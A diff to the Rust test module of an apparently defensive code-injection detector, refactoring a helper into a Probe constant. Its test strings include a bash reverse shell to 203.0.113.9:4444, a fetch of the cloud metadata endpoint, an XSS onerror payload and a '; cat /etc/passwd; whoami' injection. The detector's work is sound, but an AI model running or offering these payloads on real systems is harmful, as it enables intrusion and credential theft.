@@ -215,13 +215,11 @@ fn is_function(bare: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::super::super::{FLAGGED, Kinds, Place, inspect};
+    use super::super::super::probe::Probe;
+    use super::super::super::{Kinds, Place};
     use super::*;
 
-    fn flagged(text: &str) -> Vec<&'static str> {
-        let found = inspect(text, Place::Argument, Kinds::NONE.with(Kind::CodeInjection));
-        found.into_iter().filter(|one| one.score >= FLAGGED).map(|one| one.rule).collect()
-    }
+    const CODE: Probe = Probe(Place::Argument, Kinds::NONE.with(Kind::CodeInjection));
 
     #[test]
     fn pieces_of_programs_and_documents_are_left_alone() {
@@ -246,7 +244,7 @@ mod tests {
             &"function f(e,t){for(var n in e)if(n>1&&(t=e[n]),a&&!w&&!y)return m(o.signal,F);for(n=0;n<6;++n)t[n]();}"
                 .repeat(12),
         ] {
-            assert_eq!(flagged(text), Vec::<&str>::new(), "{text}");
+            assert_eq!(CODE.found(text), [], "{text}");
         }
     }
 
@@ -260,7 +258,7 @@ mod tests {
             "fetch(\n  'http://169.254.169.254/latest/meta-data/',\n);",
             "if x:\n    bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
         ] {
-            assert_ne!(flagged(text), Vec::<&str>::new(), "{text}");
+            assert!(CODE.flags(text), "{text}");
         }
     }
 
@@ -276,7 +274,7 @@ mod tests {
             "<p>hi</p>\n<img src=x onerror=alert(1)>",
             "a\n; cat /etc/passwd; whoami",
         ] {
-            assert_ne!(flagged(text), Vec::<&str>::new(), "{text}");
+            assert!(CODE.flags(text), "{text}");
         }
     }
 }
